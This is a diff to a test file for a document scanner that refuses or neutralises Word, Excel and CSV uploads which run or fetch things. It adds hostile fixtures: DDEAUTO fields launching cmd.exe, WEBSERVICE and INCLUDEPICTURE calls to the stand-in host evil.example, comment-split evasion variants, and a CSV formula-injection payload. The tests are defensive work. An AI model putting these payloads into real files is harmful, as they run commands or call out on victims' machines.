@@ -23,9 +23,15 @@ from tests.app.files.documents import (
 
 MB = 1024 * 1024
 W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
 DDE_FIELD = f'<w:fldSimple xmlns:w="{W}" w:instr="DDEAUTO cmd"/>'
+STRICT = {
+    W.encode(): b"http://purl.oclc.org/ooxml/wordprocessingml/main",
+    S.encode(): b"http://purl.oclc.org/ooxml/spreadsheetml/main",
+}
+OF_EXCEL = "http://schemas.microsoft.com/office/excel/2006/main"
 OUTSIDE_RELATION = next(iter(relation("image", "http://evil.example/pixel.png").values()))
 
 
@@ -54,6 +60,18 @@ def packed_pdf(action: str, key: str) -> bytes:
         document.Root["/Later"] = document.make_indirect(pikepdf.Dictionary(facts))
         document.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
     return buffer.getvalue()
+
+
+def strict(content: bytes) -> bytes:
+    """Return a document as Office saves it when it is asked for its strict form."""
+    with ZipFile(io.BytesIO(content)) as archive:
+        parts: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
+    for usual, other in STRICT.items():
+        parts = {
+            name: part.replace(usual, other) if isinstance(part, bytes) else part
+            for name, part in parts.items()
+        }
+    return zipped(parts)
 
 
 def test_an_ordinary_document_passes(verdict: Verdict) -> None:
@@ -130,6 +148,9 @@ def test_an_ordinary_workbook_passes(verdict: Verdict) -> None:
         (docx_with(field(DDE, closed=False)), Why.OUTSIDE_LINK),
         (docx_with('<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>'), Why.OUTSIDE_LINK),
         (docx_with(field('INCLUDEPICTURE "http://evil.example/"')), Why.OUTSIDE_LINK),
+        (docx_with(field("DDE<!-- -->AUTO cmd")), Why.OUTSIDE_LINK),
+        (strict(docx_with(field(DDE))), Why.OUTSIDE_LINK),
+        (strict(docx_with('<w:p><w:fldSimple w:instr="DDE x"/></w:p>')), Why.OUTSIDE_LINK),
         (docx_named("word/document.dat", field(DDE)), Why.OUTSIDE_LINK),
         (docx_named("WORD/Document.XML", field(DDE)), Why.OUTSIDE_LINK),
         (docx_with(more={"word/media/image1.png": f"<x>{DDE_FIELD}</x>"}), Why.OUTSIDE_LINK),
@@ -176,6 +197,8 @@ def test_a_document_that_runs_or_fetches_or_hides_something_is_refused(
                 "'http://evil.example/[a.xlsx]Sheet1'!A1",
                 'HYPERLINK("\\\\evil.example\\a")',
                 'IMPORTDATA("http://evil.example")',
+                'WEB<!-- -->SERVICE("http://evil.example")',
+                'WEB<?p?>SERVICE("http://evil.example")',
             )
         ),
         (
@@ -184,6 +207,11 @@ def test_a_document_that_runs_or_fetches_or_hides_something_is_refused(
         ),
         (
             xlsx_with(more={"xl/x.bin1": '<a xmlns="x"/>', "xl/_rels/a.RELS": OUTSIDE_RELATION}),
+            Why.OUTSIDE_LINK,
+        ),
+        (strict(xlsx_with('<c><f>WEBSERVICE("http://e")</f></c>')), Why.OUTSIDE_LINK),
+        (
+            xlsx_with(f'<x:f xmlns:x="{OF_EXCEL}">WEBSERVICE("http://e")</x:f>'),
             Why.OUTSIDE_LINK,
         ),
         (xlsx_with(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), Why.OUTSIDE_LINK),
@@ -384,6 +412,12 @@ def test_formulas_of_a_table_are_shown_as_text_and_marked(found: Found) -> None:
         "\"'=cmd|'/C calc'!A1\";2;'@SUM(1)\r\n"
         "a,'=1+1;'+A1;-2,5\r\n"
     )
+
+
+def test_a_line_of_a_table_may_end_as_on_an_old_apple(found: Found) -> None:
+    look = found(b"a;b\r=1+1;-5\r", "csv")
+
+    assert (look.change, look.shown) == ("formulas_as_text", b"\xef\xbb\xbfa;b\r'=1+1;-5\r")
 
 
 def test_a_table_without_formulas_is_shown_as_it_is(found: Found) -> None:
